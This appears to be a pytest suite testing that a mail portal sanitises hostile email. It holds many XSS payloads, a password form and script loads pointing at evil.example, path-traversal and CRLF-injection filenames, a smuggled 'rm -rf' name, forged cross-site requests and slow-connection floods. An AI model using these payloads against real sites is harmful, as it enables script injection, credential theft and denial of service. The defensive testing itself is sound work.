# SPDX-License-Identifier: Apache-2.0
"""What is done to the portal of examples/portal: mails that want to run, load, submit, frame or cover the page, that are
damaged or nested deep, names that want to break out of a folder, requests that other sites make a browser send, and
peers that send too much, too slowly or nothing. Each gets a clear answer, and the others go on reading."""
import concurrent.futures
import html
import os
import re
import socket
import time

import pytest

from portal import WHY_NOT, Portal
from portal_world import KIM, PNG, authority_options, code_page, mail_of, no_passcodes, node, opened, portal, protected, relay  # noqa: F401  pylint: disable=W0611
from waiting import eventually

pytestmark = pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT or "never")
MIB = 1024 * 1024
EVIL = """<html><head><title>x</title><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<style>body{display:none} @import url(https://evil.example/s.css);</style><link rel=stylesheet href=https://evil.example></head>
<body onload=alert(1) background="https://evil.example/b.png"><script>alert(1)</script><SCRIPT SRC=//evil.example></SCRIPT >
<img src=x onerror=alert(1)><img src="javascript:alert(1)"><img src="data:text/html,x"><svg onload=alert(1)><script>1</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>
<a href="javascript:alert(1)">one</a><a href=" java&#10;script:alert(1)">two</a><a href="data:text/html,<script>">three</a>
<a href="https://good.example/?a=1&amp;b=2" target=_top onclick=alert(1)>good</a><a href="vbscript:x">four</a><a href="//evil.example">five</a>
<form action="https://evil.example"><input name=password type=password><button>Sign in</button><textarea>t</textarea></form>
<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x><video src=x><audio src=x><frameset></frameset>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(https://evil.example/c.png)">cover</div>
<div style="color:red;background-image:url(x);margin-top:-500px;width:expression(alert(1));font-family:'A B';behavior:url(x)">kept</div>
<div style="c\\6flor:r\\65 d;color:r\\65 d">escaped</div><p id=main class=problem name=form>named</p><!-- <script>comment</script> -->
<![CDATA[<script>alert(1)</script>]]><xmp><script>alert(1)</script></xmp><plaintext><script>alert(2)</script>"""


@pytest.fixture(scope="module")
def wrapped(node):
    return protected(node, mail_of())[0]


def body_of(node, portal, relay, mail, query=""):
    reader, page = opened(portal, protected(node, mail)[0], relay)
    assert page.status == 200, page.problem
    return page, reader.get(f"/message/body{query}"), reader


# --- HTML ---


def test_nothing_of_a_mail_runs_loads_submits_frames_or_covers(node, portal, relay):
    page, body, _ = body_of(node, portal, relay, mail_of(html=EVIL))
    text = body.body.decode()
    inside = text[text.index("<body"):]
    assert {tag for tag, _ in body.tags} <= {"html", "head", "meta", "title", "style", "body", "p", "img", "a", "div"}
    names = {name for tag, attributes in body.tags if tag not in ("html", "meta") for name in attributes}
    assert names <= {"class", "lang", "src", "href", "target", "rel", "style", "title"}
    assert body.attribute("p", "class").count("problem") == 0
    assert not re.search(r"<(script|form|iframe|svg|math|base|link|input)|\son\w+=|javascript:|evil\.example", inside, re.I), inside
    links = [href for href in body.links if href]
    assert links == ["https://good.example/?a=1&b=2"] and body.attribute("a", "target").count("_blank") == 1
    assert [style for style in body.attribute("div", "style") if style] == ["width:100%;height:100%;", "color:red;font-family:'a b';"]
    assert "position" not in inside and "url(" not in inside and "expression" not in inside
    assert all(src is None for src in body.attribute("img", "src")), "no picture has an address"
    assert "kept" in body.text and "cover" in body.text
    assert page.attribute("iframe", "sandbox") == ["allow-popups allow-popups-to-escape-sandbox"]


def test_the_second_line_is_the_policy(node, portal, relay):
    page, body, reader = body_of(node, portal, relay, mail_of(html="<p>x"))
    policy = dict((part.split()[0], part.split()[1:]) for part in body.headers["content-security-policy"].split("; "))
    assert policy["sandbox"] == ["allow-popups", "allow-popups-to-escape-sandbox"] and policy["default-src"] == ["'none'"]
    assert policy["img-src"] == ["data:"] and policy["form-action"] == ["'none'"] and policy["frame-ancestors"] == ["'self'"]
    for answer in (page, reader.get("/"), reader.get("/nowhere")):
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy and "script" not in policy and "unsafe" not in policy
        assert "script" not in [tag for tag, _ in answer.tags] and b"style=" not in answer.body
    for answer in (page, body):
        assert answer.headers["cache-control"] == "no-store" and answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "same-origin" and answer.headers["cross-origin-resource-policy"] == "same-origin"
        assert "max-age" in answer.headers["strict-transport-security"]


def test_pictures_of_others_are_loaded_when_asked_for(node, portal, relay):
    mail = mail_of(html='<p>x<img src="http://img.example/a.png?k=1&amp;l=2" alt="Bild"><img src="https://img.example/b.png">')
    page, body, reader = body_of(node, portal, relay, mail)
    assert "not loaded" in page.text and "/message?pictures=1" in page.links
    assert body.attribute("img", "src") == [None, None] and body.attribute("img", "alt") == ["Bild", None]
    shown = reader.get("/message?pictures=1")
    assert "are loaded" in shown.text and shown.attribute("iframe", "src") == ["/message/body?pictures=1"]
    loaded = reader.get("/message/body?pictures=1")
    assert loaded.attribute("img", "src") == ["https://img.example/a.png?k=1&l=2", "https://img.example/b.png"]
    assert "img-src data: https:;" in loaded.headers["content-security-policy"]
    assert "img-src data:;" in reader.get("/message/body").headers["content-security-policy"]


def related(*, body="<p>see <img src='cid:logo@x'><img src='cid:other'><img src='CID:bad@x'>"):
    import base64  # pylint: disable=import-outside-toplevel
    return (f"From: alice@contoso.com\r\nTo: {KIM}\r\nSubject: Logo\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html\r\n\r\n" + body +
            "\r\n--r\r\nContent-Type: image/svg+xml\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
            base64.b64encode(PNG).decode() +
            "\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <bad@x>\r\n\r\n<svg onload=alert(1)>\r\n--r--\r\n").encode()


def test_pictures_of_the_mail_are_what_their_bytes_are(node, portal, relay):
    _, body, _ = body_of(node, portal, relay, related())
    sources = body.attribute("img", "src")
    assert sources[0].startswith("data:image/png;base64,") and sources[1:] == [None, None]


def test_a_picture_that_is_named_often_does_not_fill_the_memory(node, portal, relay):
    big = PNG + os.urandom(MIB)
    import base64  # pylint: disable=import-outside-toplevel
    mail = related(body="<img src='cid:logo@x'>" * 20000).replace(base64.b64encode(PNG), base64.encodebytes(big).replace(b"\n", b"\r\n"))
    _, body, _ = body_of(node, portal, relay, mail)
    assert len(body.body) < 40 * MIB and body.body.count(b"data:image/png") == 23


# --- MIME ---


def nested(depth, kind="mixed", text="deep text"):
    parts = "".join(f"--b{i}\r\nContent-Type: multipart/{kind}; boundary=b{i + 1}\r\n\r\n" for i in range(depth))
    return (f"From: alice@contoso.com\r\nTo: {KIM}\r\nSubject: Deep\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: multipart/{kind}; boundary=b0\r\n\r\n{parts}--b{depth}\r\n\r\n{text}\r\n").encode()


@pytest.mark.parametrize("kind", ["mixed", "alternative"])
@pytest.mark.parametrize("depth, is_cut", [(10, False), (100, True), (19000, True)])
def test_mime_nested_deep(node, portal, relay, kind, depth, is_cut):  # pylint: disable=R0913
    page, body, _ = body_of(node, portal, relay, nested(depth, kind))
    assert ("Not all of this message" in page.text) == is_cut
    assert ("deep text" in body.text) == (not is_cut)


def test_html_nested_deep_and_ten_thousand_parts(node, portal, relay):
    page, body, _ = body_of(node, portal, relay, mail_of(html="first" + "<div>" * 100000 + "deep"))
    assert "first" in body.text and ("deep" in body.text) != ("Not all of this message" in page.text)
    parts = "".join(f"--b\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n" for i in range(10000))
    page, body, _ = body_of(node, portal, relay, (f"From: alice@contoso.com\r\nTo: {KIM}\r\nMIME-Version: 1.0\r\n"
                            f"Content-Type: multipart/mixed; boundary=b\r\n\r\n{parts}--b--\r\n").encode())
    assert "Not all of this message" in page.text and "part 100" in body.text and "part 9999" not in body.text


@pytest.mark.parametrize("charset, data, shown", [
    ("utf-8", b"Gr\xfc\xdfe", "Gr\ufffd\ufffde"), ("iso-8859-1", b"Gr\xfc\xdfe", "Grüße"), ("windows-1252", b"\x80 5", "€ 5"),
    ("nonsense", b"Gr\xfc\xdfe", "Grüße"), ("utf-7", b"+ADw-script+AD4-", "<script>"), ("us-ascii", "Grüße".encode(), "Grüße"),
    ("utf-16", b"<script>alert(1)</script>!", None), ("iso-2022-jp", b"\x1b$B<script>", None), ("\"", b"x", "x")])
def test_charsets_that_lie(node, portal, relay, charset, data, shown):
    for kind in ("plain", "html"):
        mail = (f"From: alice@contoso.com\r\nTo: {KIM}\r\nSubject: C\r\nMIME-Version: 1.0\r\n"
                f"Content-Type: text/{kind}; charset={charset}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n").encode() + data + b"\r\n"
        _, body, _ = body_of(node, portal, relay, mail)
        assert body.headers["content-type"] == "text/html; charset=utf-8"
        assert "script" not in [tag for tag, _ in body.tags]
        if shown and not (kind == "html" and "<" in shown):
            assert shown in body.text, (kind, body.text)


def test_headers_that_are_html_or_turn_around(node, portal, relay):
    mail = mail_of(subject="<script>alert(1)</script>‮gpj.exe").replace(b"Alice", b"<b>Alice</b>")
    page, _, _ = body_of(node, portal, relay, mail)
    assert b"<script>" not in page.body and "<script>alert(1)" in page.text and "script" not in [tag for tag, _ in page.tags]


@pytest.mark.parametrize("name, shown", [
    ("../../etc/passwd", "passwd"), ("..\\..\\boot.ini", "boot.ini"), ("/etc/passwd", "passwd"), (".bashrc", "bashrc"),
    ("a\r\nSet-Cookie: x=1.pdf", None), ("CON;rm -rf %2e%2e%2f.pdf", "CON_rm -rf _2e_2e_2f.pdf"), ("inv‮fdp.exe", "invfdp.exe"),
    ("..", "attachment"), ("", "attachment"), ("x" * 5000 + ".pdf", None), ("quote\".pdf", None), ("Büro.pdf", "Büro.pdf")])
def test_names_that_want_to_break_out(world, node, portal, relay, name, shown):
    from email.header import Header  # pylint: disable=import-outside-toplevel
    encoded = Header(name, "utf-8").encode(linesep="\r\n ") if name else ""
    mail = (f"From: alice@contoso.com\r\nTo: {KIM}\r\nSubject: N\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"{encoded}\"\r\n\r\n%PDF\r\n").encode()
    template = world.template({"principals": ["recipients"], "rights": [1, 7]}).template_id
    reader, page = opened(portal, protected(node, mail, f"--template {template}")[0], relay)
    saved = reader.get("/message/attachment/0")
    assert saved.status == 200 and "set-cookie" not in saved.headers
    kept = saved.headers["content-disposition"].removeprefix("attachment; filename*=UTF-8''")
    assert re.fullmatch(r"[A-Za-z0-9_.~%-]{1,500}", kept) and not kept.startswith(".")
    from urllib.parse import unquote  # pylint: disable=import-outside-toplevel
    assert not set("/\\\r\n\"") & set(unquote(kept)) and (shown is None or unquote(kept) == shown), unquote(kept)
    assert html.escape(unquote(kept)) in page.body.decode() or unquote(kept) in page.text


# --- what is no protected mail ---


@pytest.mark.parametrize("data", [b"", b"\0" * 1000, b"not a mail", mail_of(), b"%PDF-1.7", os.urandom(5000), b"\r\n" * 1000],
                         ids=["empty", "zeros", "text", "unprotected", "pdf", "random", "lines"])
def test_what_is_no_protected_mail(portal, data):
    reader = portal.reader()
    page = reader.upload(data)
    assert page.status == 400 and "no protected message" in page.problem and not reader.cookies


def test_a_mail_that_was_changed_on_its_way(portal, relay, wrapped):
    lines = wrapped.split(b"\n")
    last = max(i for i, line in enumerate(lines) if len(line) > 60 and b":" not in line)
    lines[last] = lines[last][:10] + (b"A" if lines[last][10:11] != b"A" else b"B") + lines[last][11:]
    _, page = opened(portal, b"\n".join(lines), relay)
    assert page.status == 403 and "damaged" in page.problem


def test_a_license_of_somebody_else(portal, wrapped):
    head, rest = wrapped.split(b"application/x-chancery-license", 1)
    license_, after = rest.split(b"\r\n\r\n" if b"\r\n\r\n" in rest else b"\n\n", 1)[1].split(b"--", 1)
    changed = bytearray(license_)
    changed[len(license_) // 2] = ord("A") if changed[len(license_) // 2] != ord("A") else ord("B")
    page = portal.reader()
    got = page.upload(head + b"application/x-chancery-license" + rest.split(license_, 1)[0] + bytes(changed) + b"--" + after)
    if got.status == 200:
        got = page.submit(got, "/passcode", address=KIM)
    assert "not protected by the organization" in got.problem or "damaged" in got.problem or "no protected" in got.problem


# --- other sites ---


def test_what_another_site_makes_a_browser_ask_for(portal, relay, wrapped):
    reader, message = opened(portal, wrapped, relay)
    form = message.form("/end")
    for headers in ({"Origin": "https://evil.example"}, {"Origin": "null"}, {"Origin": None}, {"Host": "evil.example"},
                    {"Origin": f"{portal.origin}.evil.example"}):
        answer = reader.post("/end", form, **headers)
        assert answer.status == 403 and "not sent from this page" in answer.problem
    for fields in ({}, {"form": ""}, {"form": "x" * 43}, {"form": form["form"][:-1]}):
        assert reader.post("/end", fields).status == 403
    for path in ("/message", "/message/body", "/sign-in"):
        assert reader.get(path, Sec_Fetch_Site="cross-site").status == 403
        assert reader.get(path, Sec_Fetch_Site="same-origin").status == 200
    assert reader.get("/", Sec_Fetch_Site="cross-site").status == 200, "the link in the mail leads here"
    other = portal.reader()
    page, code = code_page(other, wrapped, relay)
    stranger = portal.reader()
    stranger.upload(wrapped)
    assert stranger.post("/passcode/code", {**page.form("/passcode/code"), "code": code}).status == 403
    assert reader.get("/message").status == 200


@pytest.mark.parametrize("cookie", ["", "x", "x" * 43, "../../x", "%00", "a; __Host-chancery=b"])
def test_cookies_that_nobody_was_given(portal, cookie):
    reader = portal.reader()
    reader.cookies = {"__Host-chancery": cookie}
    for path in ("/message", "/message/body", "/message/attachment/0", "/sign-in", "/passcode"):
        assert reader.get(path).status == 403
    assert reader.get("/").status == 200


@pytest.mark.parametrize("path", ["/nowhere", "/message/attachment/x", "/message/attachment/", "/../etc/passwd", "//", "/%2e%2e/",
                                  "/message/attachment/99999999999999999999999", "/message/attachment/-1", "/?" + "a" * 20000])
def test_addresses_that_there_are_not(portal, relay, wrapped, path):
    reader, _ = opened(portal, wrapped, relay)
    assert reader.get(path).status in {"/?": (200, 414, 431), "/m": (403, 404)}.get(path[:2], (404,))


def test_methods_and_forms_that_there_are_not(portal):
    reader = portal.reader()
    for method, path in (("DELETE", "/"), ("PUT", "/open"), ("POST", "/message"), ("GET", "/open"), ("TRACE", "/")):
        assert reader.ask(method, path).status in (400, 403, 404, 405)
    head = reader.ask("HEAD", "/")
    assert head.status == 200 and not head.body
    assert reader.ask("POST", "/open", b"x", Content_Type="text/plain").status == 400
    assert reader.ask("POST", "/open", b"--b\r\nnonsense", Content_Type="multipart/form-data; boundary=b").status == 400
    assert reader.post("/language", {"language": "de", "page": "https://evil.example"}).headers["location"] == "/"


# --- too much, too slow ---


def test_uploads_that_are_too_large(portal):
    reader = portal.reader()
    for length in (7 * MIB, 10 ** 12, 10 ** 30):
        raw = socket.create_connection(("127.0.0.1", portal.port), timeout=20)
        raw.sendall(f"POST /open HTTP/1.1\r\nHost: localhost:{portal.port}\r\nOrigin: {portal.origin}\r\nContent-Length: {length}\r\n"
                    "Content-Type: multipart/form-data; boundary=b\r\n\r\n--b".encode())
        assert re.match(rb"HTTP/1.1 4(13|00)", raw.recv(100))
        raw.close()
    assert reader.ask("POST", "/passcode", "a" * 20000, Content_Type="application/x-www-form-urlencoded").status == 413
    raw = socket.create_connection(("127.0.0.1", portal.port), timeout=20)
    raw.sendall(f"POST /open HTTP/1.1\r\nHost: localhost:{portal.port}\r\nOrigin: {portal.origin}\r\nTransfer-Encoding: chunked\r\n"
                "Content-Type: multipart/form-data; boundary=b\r\n\r\n3\r\n--b\r\n".encode())
    assert raw.recv(100).startswith(b"HTTP/1.1 411")
    raw.close()


def begun(portal, address="192.0.2.7"):
    """An upload of which the begin is sent."""
    raw = socket.create_connection(("127.0.0.1", portal.port), timeout=20)
    raw.sendall(f"POST /open HTTP/1.1\r\nHost: localhost:{portal.port}\r\nOrigin: {portal.origin}\r\nContent-Length: {6 * MIB}\r\n"
                f"X-Real-IP: {address}\r\n"
                "Content-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n".encode())
    return raw


def test_memory_is_shared_and_bounded(portal, wrapped):
    """256 MiB at eight times each: more uploads than that are asked to come later, and those that end give it back."""
    before = portal.rss()
    held = [begun(portal, f"192.0.2.{number}") for number in range(12)]
    for raw in held[5:]:
        assert raw.recv(100).startswith(b"HTTP/1.1 503")
    assert portal.rss() - before < 100 * MIB
    for raw in held:
        raw.close()
    eventually(lambda: portal.reader().upload(wrapped).status == 200, "memory comes back")


def test_a_thousand_idle_and_slow_connections(portal, wrapped, relay):
    before, held = portal.rss(), []
    for number in range(1000):
        raw = socket.create_connection(("127.0.0.1", portal.port), timeout=20)
        if number % 2:
            raw.sendall(b"GET / HTTP/1.1\r\nHost: local")
        held.append(raw)
    start = time.monotonic()
    assert opened(portal, wrapped, relay)[1].status == 200
    assert time.monotonic() - start < 10 and portal.rss() - before < 80 * MIB
    for raw in held:
        raw.close()


def test_idle_and_slow_connections_are_closed(world, node):
    with Portal(node, world.portal, idle_seconds=3) as portal:
        idle, slow = (socket.create_connection(("127.0.0.1", portal.port), timeout=20) for _ in range(2))
        slow.sendall(b"GET / HTTP/1.1\r\nX-Slow: ")
        eventually(lambda: gone(idle), "the idle one is closed")
        eventually(lambda: is_closed_while_it_sends(slow), "a byte now and then doesn't keep the other")


def is_closed_while_it_sends(raw):
    try:
        raw.sendall(b"x")
    except OSError:
        return True
    return gone(raw)


def gone(raw):
    raw.settimeout(1)
    try:
        return raw.recv(4096) == b"" or None
    except TimeoutError:
        return False
    except OSError:
        return True


def test_many_readers_at_once(portal, relay, wrapped):
    readers = [opened(portal, wrapped, relay)[0] for _ in range(4)]  # as many codes as one network may ask for
    with concurrent.futures.ThreadPoolExecutor(20) as pool:
        answers = list(pool.map(lambda number: readers[number % 4].get("/message").status, range(60)))
    assert set(answers) == {200}


def test_a_session_that_ends_while_it_is_worked_for(portal, relay, wrapped):
    reader, message = opened(portal, wrapped, relay)
    with concurrent.futures.ThreadPoolExecutor(9) as pool:
        looks = [pool.submit(reader.get, "/message") for _ in range(8)]
        ends = pool.submit(reader.post, "/end", message.form("/end"))
        assert {look.result().status for look in looks} <= {200, 403} and ends.result().status == 303
    assert portal.reader().get("/").status == 200
